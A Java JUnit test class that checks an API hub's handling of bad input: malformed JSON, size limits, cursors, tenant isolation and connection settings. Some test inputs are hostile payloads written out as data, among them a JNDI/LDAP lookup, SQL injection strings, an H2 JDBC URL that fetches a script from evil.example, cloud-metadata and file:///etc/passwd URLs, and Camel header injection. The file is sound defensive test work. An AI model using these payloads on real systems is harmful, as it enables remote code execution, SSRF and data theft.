package io.syncflow.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.github.f4b6a3.uuid.UuidCreator;
import io.syncflow.security.Role;
import java.io.IOException;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.util.HashSet;
import java.util.Set;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The rows of the bad-input matrix that concern HTTP, over HTTP, against a whole hub. */
class BadInputTest {

  private static HubFixture hub;
  private static String admin;
  private static String other;

  @BeforeAll
  static void start(@TempDir Path data) throws SQLException {
    hub = new HubFixture(data);
    admin = hub.acme(Role.ADMIN);
    other = hub.globex(Role.ADMIN);
    UUID run = batch(hub.acme);
    for (String reason : new String[] {"100% wrong", "under_score", "back\\slash", "plain 100"}) {
      deadLetter(hub.acme, run, reason);
    }
  }

  @AfterAll
  static void stop() {
    hub.close();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "B2 broken            | {\"name\":          | malformed_json",
        "B3 trailing          | {\"name\":\"a\"} x  | malformed_json",
        "B3 two roots         | {} {}               | malformed_json",
        "B4 duplicate key     | {\"name\":\"a\",\"name\":\"b\"} | duplicate_key",
        "B10 unknown field    | {\"nme\":\"a\"}     | unknown_field",
        "B11 NUL              | {\"name\":\"a\\u0000\"} | nul_not_allowed",
        "B12 half a pair      | {\"name\":\"a\\ud800\"} | lone_surrogate",
        "B15 huge number      | {\"expires_in_days\":1e200000} | number_out_of_range",
        "B15 tiny number      | {\"name\":[{\"a\":-1e-20000}]} | number_out_of_range",
        "B15 huge exponent    | {\"expires_in_days\":1e99999999999} | number_out_of_range",
        "B16 part of a day    | {\"name\":\"a\",\"expires_in_days\":1.5} | wrong_type",
        "B22 missing          | {}                  | field_required",
        "B23 unknown word     | {\"name\":\"a\",\"role\":\"root\"} | unknown_value",
        "not an object        | []                  | object_required",
        "a text for a number  | {\"expires_in_days\":\"7\"} | wrong_type",
        "a number for a text  | {\"name\":7}        | wrong_type"
      })
  void refuses_bad_json_with_a_code_of_its_own(String row, String body, String code) {
    HttpResponse<String> answer = hub.send(admin, "POST", "/api/v1/tokens", body);

    assertThat(answer.statusCode()).as(row).isEqualTo(400);
    assertProblem(answer, code);
  }

  @Test
  void says_where_the_json_breaks_and_never_quotes_it() {
    HttpResponse<String> answer =
        hub.send(admin, "POST", "/api/v1/tokens", "{\n  \"name\": S3NT1NEL }");

    assertThat(answer.body()).contains("line 2, column").doesNotContain("S3NT1NEL");
  }

  @Test
  void names_an_unknown_field_by_its_pointer() {
    JsonNode problem =
        HubFixture.json(hub.send(admin, "POST", "/api/v1/tokens", "{\"nme\":\"a\"}"));

    assertThat(problem.at("/errors/0/pointer").asText()).isEqualTo("/nme");
  }

  @Test
  void refuses_an_empty_body_b1() {
    HttpResponse<String> empty =
        hub.send(
            hub.request("POST", "/api/v1/tokens", null)
                .header("Authorization", "Bearer " + admin)
                .header("Content-Type", "application/json"));

    assertThat(empty.statusCode()).isEqualTo(400);
    assertProblem(empty, "body_required");
  }

  @Test
  void refuses_json_nested_too_deep_b5() {
    int depth = 100_001;
    String body = "{\"name\":" + "[".repeat(depth) + "]".repeat(depth) + "}";

    HttpResponse<String> answer = hub.send(admin, "POST", "/api/v1/tokens", body);

    assertThat(answer.statusCode()).isEqualTo(400);
    assertProblem(answer, "too_deep");
  }

  @Test
  void refuses_a_body_over_the_limit_b6() {
    HttpResponse<String> answer =
        hub.send(admin, "POST", "/api/v1/tokens", "{\"name\":\"" + "x".repeat(1 << 20) + "\"}");

    assertThat(answer.statusCode()).isEqualTo(413);
    assertProblem(answer, "body_too_large");
  }

  @Test
  void refuses_compressed_bodies_and_other_types_b7_b8() {
    assertThat(typed("application/json", "gzip", "{}").statusCode()).isEqualTo(415);
    for (String type : new String[] {"text/xml", "application/x-www-form-urlencoded", "*/*"}) {
      assertThat(typed(type, null, "<a/>").statusCode()).as(type).isEqualTo(415);
    }
    HttpResponse<String> none =
        hub.send(
            hub.request("POST", "/api/v1/tokens", "{}").header("Authorization", "Bearer " + admin));
    assertThat(none.statusCode()).isEqualTo(415);
    assertThat(typed("application/json; charset=utf-16", null, "{}").statusCode()).isEqualTo(415);
  }

  @Test
  void refuses_an_answer_it_cannot_give_b9() {
    for (String accept : new String[] {"text/html", "application/json;q=0", "image/*"}) {
      HttpResponse<String> answer =
          hub.send(
              hub.request("GET", "/api/v1/runs", null)
                  .header("Authorization", "Bearer " + admin)
                  .header("Accept", accept));
      assertThat(answer.statusCode()).as(accept).isEqualTo(406);
    }
    HttpResponse<String> fine =
        hub.send(
            hub.request("GET", "/api/v1/runs", null)
                .header("Authorization", "Bearer " + admin)
                .header("Accept", "text/html, application/*;q=0.5"));
    assertThat(fine.statusCode()).isEqualTo(200);
  }

  @Test
  void refuses_bytes_that_are_not_utf8_b13() {
    byte[] body = "{\"name\":\"\u00ff\"}".getBytes(StandardCharsets.ISO_8859_1);
    HttpResponse<String> answer =
        hub.send(
            HttpRequest.newBuilder(hub.uri("/api/v1/tokens"))
                .POST(BodyPublishers.ofByteArray(body))
                .header("Authorization", "Bearer " + admin)
                .header("Content-Type", "application/json"));

    assertThat(answer.statusCode()).isEqualTo(400);
    assertProblem(answer, "malformed_utf8");
  }

  @Test
  void refuses_a_malformed_id_and_takes_upper_case_b24() {
    assertThat(hub.get(admin, "/api/v1/runs/4711").statusCode()).isEqualTo(400);
    assertThat(hub.get(admin, "/api/v1/runs/1-1-1-1-1").statusCode()).isEqualTo(400);
    assertThat(hub.get(admin, "/api/v1/runs/00000000-0000-0000-0000-000000000000").statusCode())
        .isEqualTo(400);
    String id = newest("/api/v1/runs", "run");
    assertThat(hub.get(admin, "/api/v1/runs/" + id.toUpperCase()).statusCode()).isEqualTo(200);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "${sys:user.home}",
        "{{env:HOME}}",
        "#{systemProperties}",
        "${jndi:ldap://x}",
        "${bean:runsApi}",
        "'; DROP TABLE api_tokens;--"
      })
  void keeps_what_looks_like_an_expression_as_it_is_b44(String name) {
    String body = "{\"name\":\"" + name + "\",\"role\":\"viewer\"}";

    HttpResponse<String> issued = hub.send(admin, "POST", "/api/v1/tokens", body);

    assertThat(issued.statusCode()).isEqualTo(201);
    assertThat(HubFixture.json(issued).at("/info/name").asText()).isEqualTo(name);
    assertThat(HubFixture.json(issued).at("/info/role").asText()).isEqualTo("viewer");
    assertThat(HubFixture.json(hub.get(admin, "/api/v1/tokens")).at("/items/0/name").asText())
        .isEqualTo(name);
  }

  @Test
  void takes_no_header_and_no_parameter_for_a_camel_header_b42_b43() {
    HttpResponse<String> headers =
        hub.send(
            hub.request("GET", "/api/v1/failed-records", null)
                .header("Authorization", "Bearer " + admin)
                .header("CamelHttpUri", "http://evil.example/")
                .header("cAmElSqlQuery", "select 1")
                .header("CamelBeanMethodName", "show")
                .header("limit", "1")
                .header("id", "x"));
    assertThat(headers.statusCode()).isEqualTo(200);
    assertThat(HubFixture.json(headers).get("items")).hasSize(4);

    HttpResponse<String> parameter =
        hub.get(admin, "/api/v1/failed-records?CamelHttpUri=http://evil.example/");
    assertThat(parameter.statusCode()).isEqualTo(400);
    assertProblem(parameter, "unknown_parameter");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {"%25|1", "_|1", "%5C|1", "100|2", "'|0", "';%20DROP%20TABLE%20x;--|0", ".*|0"})
  void a_search_is_literal_b45(String search, int hits) {
    HttpResponse<String> answer = hub.get(admin, "/api/v1/failed-records?search=" + search);

    assertThat(HubFixture.json(answer).get("items")).hasSize(hits);
  }

  @Test
  void pages_without_gap_or_repetition() {
    Set<String> seen = new HashSet<>();
    String cursor = "";
    int pages = 0;
    do {
      JsonNode page = HubFixture.json(hub.get(admin, "/api/v1/failed-records?limit=3" + cursor));
      page.get("items").forEach(item -> assertThat(seen.add(item.get("id").asText())).isTrue());
      cursor = page.hasNonNull("next_cursor") ? "&cursor=" + page.get("next_cursor").asText() : "";
      pages++;
    } while (!cursor.isEmpty());
    assertThat(seen).hasSize(4);
    assertThat(pages).isEqualTo(2);
  }

  @Test
  void refuses_a_cursor_that_was_changed_or_comes_from_elsewhere_b56() {
    String cursor =
        HubFixture.json(hub.get(admin, "/api/v1/failed-records?limit=1"))
            .get("next_cursor")
            .asText();
    char last = cursor.charAt(cursor.length() - 1);
    String changed = cursor.substring(0, cursor.length() - 2) + (last == 'A' ? "BB" : "AA");

    assertProblem(hub.get(admin, "/api/v1/failed-records?cursor=" + changed), "invalid_cursor");
    assertProblem(hub.get(other, "/api/v1/failed-records?cursor=" + cursor), "invalid_cursor");
    assertProblem(hub.get(admin, "/api/v1/runs?cursor=" + cursor), "invalid_cursor");
    assertProblem(
        hub.get(admin, "/api/v1/runs?cursor=" + UuidCreator.getTimeOrderedEpoch()),
        "invalid_cursor");
  }

  @ParameterizedTest
  @ValueSource(strings = {"0", "-1", "501", "1000000000", "99999999999999999999", "x", "1.5"})
  void refuses_a_page_size_out_of_range_b57(String limit) {
    HttpResponse<String> answer = hub.get(admin, "/api/v1/runs?limit=" + limit);

    assertThat(answer.statusCode()).isEqualTo(400);
    assertProblem(answer, "limit_out_of_range");
  }

  @Test
  void another_organisations_ids_do_not_exist_b58() {
    String run = newest("/api/v1/runs", "run");
    String dead = newest("/api/v1/failed-records", "id");
    String token = newest("/api/v1/tokens", "id");

    for (String path :
        new String[] {
          "/api/v1/runs/" + run,
          "/api/v1/runs/" + run + "/progress",
          "/api/v1/failed-records/" + dead
        }) {
      HttpResponse<String> foreign = hub.get(other, path);
      assertThat(foreign.statusCode()).as(path).isEqualTo(404);
    }
    for (String verb : new String[] {"pause", "resume", "cancel"}) {
      assertThat(hub.send(other, "POST", "/api/v1/runs/" + run + "/" + verb, null).statusCode())
          .isEqualTo(404);
    }
    assertThat(hub.send(other, "DELETE", "/api/v1/tokens/" + token, null).statusCode())
        .isEqualTo(404);
    assertThat(HubFixture.json(hub.get(other, "/api/v1/failed-records")).get("items")).isEmpty();
    assertThat(hub.get(admin, "/api/v1/runs/" + run).statusCode()).isEqualTo(200);
  }

  @Test
  void an_organisation_in_the_body_is_never_honoured_b59() {
    HttpResponse<String> answer =
        hub.send(
            admin,
            "POST",
            "/api/v1/tokens",
            "{\"name\":\"a\",\"role\":\"viewer\",\"org_id\":\"" + hub.globex + "\"}");

    assertThat(answer.statusCode()).isEqualTo(400);
    assertProblem(answer, "unknown_field");
  }

  @Test
  void names_the_methods_a_path_takes_b64() {
    HttpResponse<String> answer = hub.send(admin, "DELETE", "/api/v1/tokens", null);

    assertThat(answer.statusCode()).isEqualTo(405);
    assertThat(answer.headers().firstValue("Allow")).contains("GET, POST");
  }

  @Test
  void stores_no_faulty_mapping_and_names_its_lines_b54() {
    String csv =
        "source_field,target_field,transformation,default_value,is_required\n"
            + "PART_NO,item_no,trim,,true\n"
            + "PART_NO,item_no,no_such_thing,,true\n";
    HttpResponse<String> answer = putCsv("items", csv);

    assertThat(answer.statusCode()).isEqualTo(400);
    assertProblem(answer, "invalid_mapping");
    assertThat(answer.body()).contains("line 3");
    assertThat(hub.get(admin, "/api/v1/mappings/items").statusCode()).isEqualTo(404);
  }

  @Test
  void a_mapping_comes_back_as_it_went_in() throws IOException {
    String csv = Files.readString(Path.of("config/mappings/sites.csv"));

    HttpResponse<String> stored = putCsv("sites", csv);
    assertThat(stored.statusCode()).as(stored.body()).isEqualTo(204);

    assertThat(hub.get(admin, "/api/v1/mappings/sites").body()).isEqualTo(csv);
    assertThat(HubFixture.json(hub.get(admin, "/api/v1/mappings")).at("/items/0").asText())
        .isEqualTo("sites");
    assertThat(hub.get(other, "/api/v1/mappings/sites").statusCode()).isEqualTo(404);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "jdbc:postgresql://h/d?socketFactory=evil.Factory",
        "jdbc:oracle:thin:@ldap://evil.example/x",
        "jdbc:mysql://h/d",
        "http://169.254.169.254/",
        "https://user:pw@h/",
        "file:///etc/passwd",
        "https://"
      })
  void refuses_addresses_that_make_a_driver_do_more_than_connect(String url) {
    HttpResponse<String> answer =
        hub.send(
            admin,
            "POST",
            "/api/v1/connections",
            "{\"system\":\"oracle_ifs\",\"base_url\":\"" + url + "\"}");

    assertThat(answer.statusCode()).isEqualTo(400);
    assertProblem(answer, "url_not_allowed");
  }

  @ParameterizedTest
  @CsvSource({
    "older_than, P99999999999D",
    "newer_than, PT999999999999H",
    "older_than, P3000000D",
    "newer_than, PT9999999999999999999999H"
  })
  void refuses_an_age_that_leads_to_no_time_a_database_has(String parameter, String age) {
    HttpResponse<String> listed = hub.get(admin, "/api/v1/failed-records?" + parameter + "=" + age);
    assertThat(listed.statusCode()).as(listed.body()).isEqualTo(400);
    assertProblem(listed, "malformed_duration");
    assertThat(HubFixture.json(listed).at("/errors/0/pointer").asText()).isEqualTo("?" + parameter);

    HttpResponse<String> ignored =
        hub.send(
            admin,
            "POST",
            "/api/v1/failed-records/ignore",
            "{\"reason\":\"r\",\"select\":{\"%s\":\"%s\"}}".formatted(parameter, age));
    assertThat(ignored.statusCode()).as(ignored.body()).isEqualTo(400);
    assertThat(HubFixture.json(ignored).at("/errors/0/pointer").asText())
        .isEqualTo("/select/" + parameter);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "+999999999-11-21T06:00:00Z",
        "-99999-01-01T00:00:00Z",
        "+10000-01-01T00:00:00Z",
        "0000-12-31T23:59:59Z",
        "yesterday"
      })
  void refuses_a_time_that_no_document_can_carry(String time) {
    HttpResponse<String> answer =
        hub.send(
            admin,
            "POST",
            "/api/v1/inventory-sessions",
            "{\"store_code\":\"1\",\"number\":\"N-1\",\"counted_at\":\"" + time + "\"}");

    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(400);
    assertProblem(answer, "malformed");
    assertThat(HubFixture.json(answer).at("/errors/0/pointer").asText()).isEqualTo("/counted_at");
  }

  @ParameterizedTest
  @CsvSource({
    "shopify, nosuch, unknown_field, /fields/nosuch",
    "shopify, variants/1/price, unknown_field, /fields/variants~11~1price",
    "nosuch, price, unknown_system, /system"
  })
  void refuses_an_owner_of_what_there_is_not(
      String system, String field, String code, String pointer) {
    HttpResponse<String> answer =
        hub.send(
            admin,
            "PUT",
            "/api/v1/catalog/ownership/" + system,
            "{\"fields\":{\"" + field + "\":\"manual\"}}");

    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(400);
    assertProblem(answer, code);
    assertThat(HubFixture.json(answer).at("/errors/0/pointer").asText()).isEqualTo(pointer);
    assertThat(HubFixture.json(answer).path("detail").asText())
        .contains(code.equals("unknown_system") ? "shopify" : "compare_at_price");
  }

  @Test
  void takes_an_owner_of_every_field_a_conflict_can_have() {
    String fields =
        "{\"*\":\"manual\",\"attributes\":\"newest\",\"attributes/color\":\"manual\","
            + "\"variant\":\"manual\",\"options\":\"manual\",\"cost\":\"target_wins\"}";

    HttpResponse<String> answer =
        hub.send(admin, "PUT", "/api/v1/catalog/ownership/shopify", "{\"fields\":" + fields + "}");

    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
    assertThat(HubFixture.json(answer).get("fields")).hasSize(6);
  }

  @Test
  void refuses_a_number_in_free_settings_that_jsonb_cannot_hold_b15() {
    HttpResponse<String> answer =
        hub.send(
            admin,
            "POST",
            "/api/v1/connections",
            "{\"system\":\"odoo\",\"base_url\":\"https://odoo.example.com/\","
                + "\"settings\":{\"limits\":[1,1e200000]}}");

    assertThat(answer.statusCode()).isEqualTo(400);
    assertProblem(answer, "number_out_of_range");
    assertThat(HubFixture.json(answer).at("/errors/0/pointer").asText())
        .isEqualTo("/settings/limits/1");
  }

  @Test
  void an_unknown_system_is_answered_with_those_there_are_b23() {
    HttpResponse<String> answer =
        hub.send(
            admin,
            "POST",
            "/api/v1/connections",
            "{\"system\":\"magento\",\"base_url\":\"https://magento.example.com/\"}");

    assertThat(answer.statusCode()).isEqualTo(400);
    assertProblem(answer, "unknown_system");
    assertThat(HubFixture.json(answer).at("/errors/0/pointer").asText()).isEqualTo("/system");
    assertThat(HubFixture.json(answer).path("detail").asText())
        .contains(
            "apismith, oracle_ifs, schedulehub, schedulehub_api, shopify, syrve, woocommerce, xorosoft");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "apismith | https://a.example | {'calls_per_secnd':5} | unknown_setting | /settings/calls_per_secnd",
        "apismith | https://a.example | {'calls_per_second':'fast'} | wrong_setting | /settings/calls_per_second",
        "apismith | https://a.example | {'calls_per_second':0} | wrong_setting | /settings/calls_per_second",
        "apismith | https://a.example | {'concurrent_calls':1.5} | wrong_setting | /settings/concurrent_calls",
        "apismith | https://a.example | {'trusted_certificates':'hello'} | wrong_setting | /settings/trusted_certificates",
        "apismith | jdbc:oracle:thin:@erp:1521/IFS | {} | url_not_allowed | /base_url",
        "oracle_ifs | https://erp.example | {} | url_not_allowed | /base_url",
        "oracle_ifs | jdbc:oracle:thin:@erp:1521/IFS | {'user':{'a':1}} | wrong_setting | /settings/user",
        "shopify | https://a.example | {'create_products':'yes'} | wrong_setting | /settings/create_products",
        "shopify | https://a.example | {'location':'12'} | wrong_setting | /settings/location",
        "shopify | https://10.0.0.1 | {} | url_not_allowed | /base_url",
        "xorosoft | https://a.example | {'time_zone':'Nowhere/Land'} | wrong_setting | /settings/time_zone",
        "xorosoft | https://a.example | {} | wrong_setting | /settings/warehouses",
        "xorosoft | https://a.example | {'warehouses':{'Main':''}} | wrong_setting | /settings/warehouses",
        "schedulehub | https://a.example | {'schema':'a;b'} | wrong_setting | /settings/schema"
      })
  void settings_are_judged_when_a_connection_is_saved(
      String system, String url, String settings, String code, String pointer) {
    HttpResponse<String> answer =
        hub.send(
            admin,
            "POST",
            "/api/v1/connections",
            "{\"system\":\"%s\",\"base_url\":\"%s\",\"settings\":%s}"
                .formatted(system, url, settings.replace('\'', '"')));

    assertThat(answer.statusCode()).isEqualTo(400);
    assertProblem(answer, code);
    assertThat(HubFixture.json(answer).at("/errors/0/pointer").asText()).isEqualTo(pointer);
  }

  @Test
  void settings_as_the_command_line_sends_them_are_taken() {
    HttpResponse<String> saved =
        hub.send(
            admin,
            "POST",
            "/api/v1/connections",
            "{\"system\":\"xorosoft\",\"base_url\":\"https://res.xorosoft.io/api/xerp\","
                + "\"settings\":{\"calls_per_second\":\"1.5\",\"time_zone\":\"Europe/Lisbon\","
                + "\"warehouses\":{\"Main\":\"MAIN\"}}}");
    assertThat(saved.statusCode()).as(saved.body()).isEqualTo(201);
  }

  @Test
  void a_connections_secret_goes_in_and_never_comes_out() throws SQLException {
    String body =
        "{\"system\":\"oracle_ifs\",\"base_url\":\"jdbc:oracle:thin:@erp:1521/IFS\","
            + "\"user\":\"SYNC\",\"password\":\"S3NT1NEL-pw\"}";

    HttpResponse<String> saved = hub.send(admin, "POST", "/api/v1/connections", body);

    assertThat(saved.statusCode()).isEqualTo(201);
    assertThat(HubFixture.json(saved).get("has_credentials").asBoolean()).isTrue();
    assertThat(saved.body() + hub.get(admin, "/api/v1/connections").body())
        .doesNotContain("S3NT1NEL")
        .contains("SYNC");
    try (Connection all = hub.database.superuser();
        PreparedStatement rows =
            all.prepareStatement("SELECT string_agg(c::text, '') FROM integration_connections c");
        var row = rows.executeQuery()) {
      row.next();
      assertThat(row.getString(1)).doesNotContain("S3NT1NEL");
    }
    HttpResponse<String> hidden =
        hub.send(
            admin,
            "POST",
            "/api/v1/connections",
            "{\"system\":\"shop\",\"base_url\":\"https://shop.example\","
                + "\"settings\":{\"a\":{\"api_key\":\"x\"}}}");
    assertProblem(hidden, "secret_in_settings");
  }

  private static HttpResponse<String> typed(String type, String encoding, String body) {
    HttpRequest.Builder request =
        hub.request("POST", "/api/v1/tokens", body)
            .header("Authorization", "Bearer " + admin)
            .header("Content-Type", type);
    return hub.send(encoding == null ? request : request.header("Content-Encoding", encoding));
  }

  private static HttpResponse<String> putCsv(String entity, String csv) {
    return hub.send(
        hub.request("PUT", "/api/v1/mappings/" + entity, csv)
            .header("Authorization", "Bearer " + admin)
            .header("Content-Type", "text/csv"));
  }

  private static String newest(String path, String field) {
    return HubFixture.json(hub.get(admin, path)).at("/items/0/" + field).asText();
  }

  /** Every refusal is a whole problem document and tells nothing about the inside. */
  private static void assertProblem(HttpResponse<String> answer, String code) {
    JsonNode problem = HubFixture.json(answer);
    assertThat(answer.headers().firstValue("Content-Type")).contains("application/problem+json");
    assertThat(problem.fieldNames())
        .toIterable()
        .contains("type", "title", "status", "detail", "instance", "code", "errors", "trace_id");
    assertThat(problem.get("status").asInt()).isEqualTo(answer.statusCode());
    assertThat(problem.get("code").asText()).isEqualTo(code);
    assertThat(answer.body())
        .doesNotContain("Exception", "at io.", "org.", "SELECT", "bridge.", "/work");
  }

  private static UUID batch(UUID org) throws SQLException {
    UUID id = UuidCreator.getTimeOrderedEpoch();
    try (Connection all = hub.database.superuser();
        PreparedStatement insert =
            all.prepareStatement(
                "INSERT INTO bridge.sync_batches (uid, org_id, source_system, entity_name,"
                    + " sync_type, status, state, rows_fetched, rows_failed, finished_at)"
                    + " VALUES (?, ?, 'oracle_ifs', 'items', 'realtime', 'completed',"
                    + " 'completed_with_errors', 4, 4, clock_timestamp())")) {
      insert.setObject(1, id);
      insert.setObject(2, org);
      insert.executeUpdate();
    }
    return id;
  }

  private static void deadLetter(UUID org, UUID run, String reason) throws SQLException {
    try (Connection all = hub.database.superuser();
        PreparedStatement insert =
            all.prepareStatement(
                "INSERT INTO bridge.failed_records (uid, org_id, batch_uid, source_system,"
                    + " entity_name, raw_data, stage_failed, error_code, error_message)"
                    + " VALUES (?, ?, ?, 'oracle_ifs', 'items', '{}', 'validate', 'tooLong', ?)")) {
      insert.setObject(1, UuidCreator.getTimeOrderedEpochPlus1());
      insert.setObject(2, org);
      insert.setObject(3, run);
      insert.setString(4, reason);
      insert.executeUpdate();
    }
  }
}
